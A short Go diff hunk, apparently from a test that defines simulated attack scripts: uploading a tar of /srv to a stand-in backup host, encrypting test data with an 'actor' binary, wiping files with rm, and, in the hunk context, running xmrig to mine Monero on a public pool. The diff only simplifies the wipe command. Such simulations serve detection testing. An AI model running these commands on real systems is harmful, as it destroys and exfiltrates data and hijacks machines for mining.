@@ -17,7 +17,7 @@ exec /tmp/.cache/xmrig mine-xmr pool.supportxmr.com:3333
 	pages := script("tar cf /tmp/www.tar /srv\n/bin/actor upload http://backup.example.test/www /tmp/www.tar\n")
 	documents := script("exec /bin/actor encrypt /srv/testdata\n")
 	backup := script("exec /bin/actor encrypt /srv/testdata copy\n")
-	wiped := script("for f in /srv/testdata/*; do rm \"$f\"; done\necho done\n")
+	wiped := script("rm /srv/testdata/*\necho done\n")
 	cache := script("mkdir -p /srv/cache\nfor i in $(seq 40); do : > /srv/cache/$i; done\nrm -r /srv/cache\n")
 	for _, s := range []Spec{pages, documents, backup, wiped, cache} {
 		for i := range 40 {
